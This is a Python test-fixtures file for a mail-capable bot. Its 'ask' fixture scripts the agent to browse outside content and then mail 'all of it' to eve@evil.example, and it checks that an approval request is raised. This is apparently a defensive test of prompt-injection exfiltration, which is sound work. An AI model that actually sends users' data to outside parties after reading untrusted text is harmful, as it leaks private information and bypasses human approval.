"""A bot that can send mails, and that has read words of others."""

from collections.abc import AsyncIterator, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from typing import Any

import pytest

from bot.core.messages import OutboundKind, OutboundMessage
from bot.core.role import LEAD_ROLE_NAME
from bot.tools.web import web_tools
from tests.support.bench import Bench
from tests.support.engine_options import engine_options
from tests.support.fakes import reply, role, uses
from tests.support.mailing import Post

NAMES = ("browse", "look", "mail", "note", "contacts", "echo")


@pytest.fixture
def post(bench: Bench) -> Post:
    lead = role("lead", "delegate", "ask_person", *NAMES, delegates_to=None)
    bench.roles = {LEAD_ROLE_NAME: lead, "researcher": role("researcher", *NAMES)}
    return Post()


RunBot = Callable[..., AbstractAsyncContextManager[None]]


@pytest.fixture
def run(bench: Bench, post: Post) -> RunBot:
    @asynccontextmanager
    async def run_bot(**options: Any) -> AsyncIterator[None]:
        others: dict[str, Any] = {name: options.pop(name) for name in ("now", "access") if name in options}
        async with bench.run(**{**engine_options(**options), "tools": [*post.tools(), *web_tools()], **others}):
            yield

    return run_bot


@pytest.fixture
def ask(bench: Bench) -> Callable[..., Any]:
    """Have the lead read words of others and then mail somebody, and return the question that comes of it."""

    async def ask(words: str, to: str = "eve@evil.example", text: str = "all of it", **fields: Any) -> OutboundMessage:
        bench.model.says("lead", reply(uses("browse")), reply(uses("mail", to=to, text=text)), "Done.")
        bench.chat.hears(words, **fields)
        return (await bench.chat.part(OutboundKind.APPROVAL)).message

    return ask
